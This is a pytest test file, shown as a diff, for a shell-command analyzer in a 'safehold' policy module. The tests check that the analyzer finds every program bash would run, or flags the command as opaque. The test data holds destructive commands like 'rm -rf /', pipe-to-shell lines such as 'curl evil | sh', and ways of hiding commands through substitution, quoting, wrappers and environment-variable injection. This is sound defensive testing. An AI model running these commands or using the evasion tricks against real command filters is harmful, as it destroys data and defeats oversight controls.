@@ -1,0 +1,303 @@
+"""Shell analysis: every program bash would run is found, or the command is opaque."""
+
+from __future__ import annotations
+
+import pytest
+
+from safehold.policy.shell import MAX_COMMAND_LENGTH, Redirect, ShellAnalysis, analyze
+
+
+def argvs(command: str | list[str]) -> list[tuple[str, ...]]:
+    return [c.argv for c in analyze(command).commands]
+
+
+def opaque_codes(command: object) -> set[str]:
+    return {r.code for r in analyze(command).opaque}  # type: ignore[arg-type]
+
+
+def understood(command: str) -> ShellAnalysis:
+    result = analyze(command)
+    assert result.opaque == (), result.opaque
+    return result
+
+
+# -- splitting ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("git status && rm -rf ~", [("git", "status"), ("rm", "-rf", "~")]),
+        ("a || b; c & d | e |& f", [("a",), ("b",), ("c",), ("d",), ("e",), ("f",)]),
+        ("git status; ls\nrm -rf ~", [("git", "status"), ("ls",), ("rm", "-rf", "~")]),
+        (
+            "(cd /tmp && rm -rf x) & { echo a; rm y; }",
+            [("cd", "/tmp"), ("rm", "-rf", "x"), ("echo", "a"), ("rm", "y")],
+        ),
+        ("if a; then b; elif c; then d; else e; fi", [("a",), ("b",), ("c",), ("d",), ("e",)]),
+        ("for f in 1 2; do rm x; done; while a; do b; done", [("rm", "x"), ("a",), ("b",)]),
+        ("case x in a) rm y;; *) ls;; esac", [("rm", "y"), ("ls",)]),
+        ("f() { rm z; }; f", [("rm", "z"), ("f",)]),
+        ("! rm x", [("rm", "x")]),
+        ("echo a#b # rm -rf /", [("echo", "a#b")]),
+    ],
+)
+def test_compound_commands_split_into_every_simple_command(
+    command: str, expected: list[tuple[str, ...]]
+) -> None:
+    assert sorted(argvs(command)) == sorted(expected)
+
+
+@pytest.mark.parametrize(
+    ("command", "hidden"),
+    [
+        ("echo $(rm -rf ~)", ("rm", "-rf", "~")),
+        ("echo `rm -rf ~`", ("rm", "-rf", "~")),
+        ('echo "a $(rm -rf ~) b"', ("rm", "-rf", "~")),
+        ('echo "`rm x`"', ("rm", "x")),
+        ("diff <(cat a) >(rm b)", ("rm", "b")),
+        ("x=$(rm y) ls", ("rm", "y")),
+        ("echo ${x:-$(rm y)}", ("rm", "y")),
+        ("echo $(( $(rm y) + 1 ))", ("rm", "y")),
+        ("cat <<EOF\n$(rm y)\nEOF\n", ("rm", "y")),
+        ("[[ -f $(rm y) ]]", ("rm", "y")),
+        ("a[$(rm y)]=1", ("rm", "y")),
+        ("echo >out $(rm y) z", ("rm", "y")),
+    ],
+)
+def test_substitutions_are_found_wherever_they_hide(command: str, hidden: tuple[str, ...]) -> None:
+    assert hidden in argvs(command)
+
+
+def test_a_quoted_heredoc_body_is_data_not_commands() -> None:
+    result = understood("cat <<'EOF'\n$(rm y)\nEOF\n")
+    assert [c.argv for c in result.commands] == [("cat",)]
+
+
+# -- static words ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "spelling", ["r\\m", '"r"m', "'r'm", "$'\\x72m'", "$'\\162m'", "$'r'm", '"rm"', "\\r\\m"]
+)
+def test_quoting_the_program_name_does_not_hide_it(spelling: str) -> None:
+    result = understood(f"{spelling} -rf /")
+    assert [c.argv for c in result.commands] == [("rm", "-rf", "/")]
+    assert result.commands[0].program == "rm"
+
+
+def test_program_basename_is_normalised() -> None:
+    assert analyze("/usr/bin/rm -rf x").commands[0].program == "rm"
+
+
+def test_computed_words_are_marked_dynamic() -> None:
+    cmd = analyze('rm "$x" *.py {a,b} ~/y plain').commands[0]
+    assert cmd.dynamic == frozenset({1, 2, 3})
+    assert cmd.argv[4:] == ("~/y", "plain")
+
+
+# -- wrappers --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "wrapped",
+    [
+        "sudo rm -rf /",
+        "sudo -u root -E rm -rf /",
+        "env FOO=1 -u BAR rm -rf /",
+        "env -i rm -rf /",
+        "nice -n 5 rm -rf /",
+        "nice -5 rm -rf /",
+        "nohup rm -rf /",
+        "time rm -rf /",
+        "time -p rm -rf /",
+        "timeout 10 rm -rf /",
+        "timeout -s KILL 10 rm -rf /",
+        "command rm -rf /",
+        "builtin rm -rf /",
+        "exec rm -rf /",
+        "stdbuf -o0 rm -rf /",
+        "setsid rm -rf /",
+        "ionice -c 3 rm -rf /",
+        "sudo env X=1 nice timeout 5 rm -rf /",
+        "bash -c 'rm -rf /'",
+        "sh -c 'rm -rf /'",
+        "zsh -c 'rm -rf /'",
+        "bash -lc 'rm -rf /'",
+        "bash -e -o pipefail -c 'rm -rf /'",
+        "bash -c \"bash -c 'rm -rf /'\"",
+        'eval "rm -rf /"',
+    ],
+)
+def test_wrappers_are_looked_through(wrapped: str) -> None:
+    result = analyze(wrapped)
+    assert ("rm", "-rf", "/") in [c.argv for c in result.commands]
+    inner = next(c for c in result.commands if c.argv == ("rm", "-rf", "/"))
+    assert inner.wrappers, "the wrapper chain is kept"
+
+
+def test_xargs_command_gets_unknown_stdin_words() -> None:
+    cmd = next(c for c in analyze("ls | xargs rm").commands if c.program == "rm")
+    assert cmd.argv[0] == "rm" and len(cmd.argv) == 2 and 1 in cmd.dynamic
+
+
+def test_xargs_replace_string_marks_the_words_it_fills() -> None:
+    cmd = next(c for c in analyze("ls | xargs -I{} rm -rf {}").commands if c.program == "rm")
+    assert cmd.argv == ("rm", "-rf", "{}") and cmd.dynamic == frozenset({2})
+
+
+@pytest.mark.parametrize("flag", ["-exec", "-execdir", "-ok", "-okdir"])
+def test_find_exec_commands_are_found(flag: str) -> None:
+    result = analyze(f"find . -name '*.o' {flag} rm -rf {{}} \\;")
+    programs = [c.program for c in result.commands]
+    assert programs.count("find") == 1 and "rm" in programs
+
+
+def test_find_with_two_exec_clauses_yields_both() -> None:
+    result = analyze("find . -exec cat {} \\; -exec rm {} +")
+    assert {c.program for c in result.commands} == {"find", "cat", "rm"}
+
+
+def test_git_global_options_are_stripped_for_rules() -> None:
+    result = understood("git -C sub --no-pager -c color.ui=false status")
+    assert result.commands[0].argv == ("git", "status")
+
+
+def test_command_v_does_not_run_its_argument() -> None:
+    assert argvs("command -v rm") == [("command", "-v", "rm")]
+
+
+# -- opaque ----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("command", "code"),
+    [
+        ("$x -rf /", "dynamic-command-name"),
+        ("$(echo rm) -rf /", "dynamic-command-name"),
+        ("`echo rm` -rf /", "dynamic-command-name"),
+        ("eval $x", "eval"),
+        ("source ./env.sh", "source"),
+        (". ./env.sh", "source"),
+        ('echo "unterminated && rm -rf /', "unparseable"),
+        ("git status\n\\\nrm -rf .", "line-continuation"),
+        ("cat .en\\\nv", "line-continuation"),
+        ("echo\x0brm x", "control-character"),
+        ("echo\rrm x", "control-character"),
+        ("echo\u00a0rm", "control-character"),
+        ("echo \u202erm", "control-character"),
+        ("x" * (MAX_COMMAND_LENGTH + 1), "command-too-long"),
+        ("'r'\\m -rf /", "ambiguous-word-boundary"),
+        ("'a b'\\git", "ambiguous-word-boundary"),
+        ('echo $"x"', "ambiguous-word-boundary"),
+        ("curl x | sh", "program-from-stdin"),
+        ("bash < script.sh", "program-from-stdin"),
+        ("python3 <<EOF\nprint(1)\nEOF\n", "program-from-stdin"),
+        ('bash -c "$CMD"', "dynamic-script"),
+        ("python -c 'import os'", "inline-code"),
+        ("node -e 'x'", "inline-code"),
+        ("perl -ne 'print'", "inline-code"),
+        ("LD_PRELOAD=/tmp/x.so ls", "dangerous-env"),
+        ("PATH=/tmp ls", "dangerous-env"),
+        ("export PAGER=evil; git log", "dangerous-env"),
+        ("GIT_SSH_COMMAND='sh -c x' git fetch", "dangerous-env"),
+        ("env BASH_ENV=/tmp/x bash script.sh", "dangerous-env"),
+        ("git -c core.pager='sh -c x' log", "git-config-code"),
+        ("git -c alias.x='!rm -rf /' x", "git-config-code"),
+        ("env -S 'rm -rf /'", "env-split-string"),
+        ("sudo -s rm x", "hidden-command"),
+        ("alias ls='rm -rf /'; ls", "hidden-command"),
+        ("trap 'rm -rf /' EXIT", "hidden-command"),
+        ("echo hi > $OUT", "dynamic-redirect"),
+        ("x='a[$(rm y)]'; echo $((x))", "arithmetic-code"),
+        ("cat <<EOF\n`rm y`\nEOF\n", "heredoc-substitution"),
+        ("timeout --bogus 5 rm x", "unknown-wrapper-option"),
+        ("find . -exec rm {}", "unknown-wrapper-option"),
+        ('bash -c \'bash -c "bash -c \\"bash -c ls\\""\'', "nesting-too-deep"),
+    ],
+)
+def test_what_is_not_statically_known_is_opaque(command: str, code: str) -> None:
+    assert code in opaque_codes(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git status",
+        "ls -la | grep x | wc -l",
+        "npm test",
+        "echo $HOME",
+        'for f in *.py; do echo "$f"; done',
+        "cat <<'EOF'\nhello\nEOF\n",
+        "FOO=1 make",
+        "python3 script.py",
+        "bash script.sh",
+        "rm -rf build/",
+        "ls 2>&1 >/dev/null",
+    ],
+)
+def test_ordinary_commands_are_understood(command: str) -> None:
+    understood(command)
+
+
+@pytest.mark.parametrize(
+    "garbage",
+    [None, 42, 3.5, b"ls", ["ls", 3], [], [""], {"cmd": "ls"}, object(), "", "   \n"],
+)
+def test_garbage_input_is_opaque_never_an_exception(garbage: object) -> None:
+    result = analyze(garbage)  # type: ignore[arg-type]
+    assert result.opaque and not result.commands
+
+
+def test_an_argv_list_is_one_command_with_no_shell_parsing() -> None:
+    result = understood_argv(["echo", "a && rm -rf /", "$(x)"])
+    assert [c.argv for c in result.commands] == [("echo", "a && rm -rf /", "$(x)")]
+
+
+def understood_argv(argv: list[str]) -> ShellAnalysis:
+    result = analyze(argv)
+    assert result.opaque == ()
+    return result
+
+
+def test_an_argv_list_still_unwraps_bash_c() -> None:
+    assert ("rm", "-rf", "/") in argvs(["bash", "-c", "ls; rm -rf /"])
+
+
+# -- redirections ----------------------------------------------------------------------
+
+
+def test_redirections_carry_target_and_direction() -> None:
+    result = understood("cat < in.txt > out.txt 2>> err.log &> all.log 2>&1 >/dev/null")
+    assert set(result.redirects) == {
+        Redirect("in.txt", "read", "<"),
+        Redirect("out.txt", "write", ">"),
+        Redirect("err.log", "write", ">>"),
+        Redirect("all.log", "write", "&>"),
+    }
+
+
+def test_redirect_after_a_list_applies_to_the_list() -> None:
+    result = understood("git status && npm test > out")
+    assert Redirect("out", "write", ">") in result.redirects
+
+
+def test_words_after_a_redirect_target_are_arguments() -> None:
+    assert argvs("rm 2>/dev/null -rf /") == [("rm", "-rf", "/")]
+
+
+# -- grant argvs -----------------------------------------------------------------------
+
+
+def test_grant_argvs_name_the_exact_command() -> None:
+    one = analyze("git status").grant_argvs
+    assert one == (("git", "status"),)
+    assert analyze("git status; curl evil | sh").grant_argvs != one
+    assert analyze("git status > x").grant_argvs != one
+    assert analyze("false && rm x").grant_argvs != analyze("false || rm x").grant_argvs
+
+
+def test_analysis_of_deep_nesting_is_bounded() -> None:
+    deep = "echo " + "$(" * 2000 + "x" + ")" * 2000
+    result = analyze(deep)
+    assert result.opaque
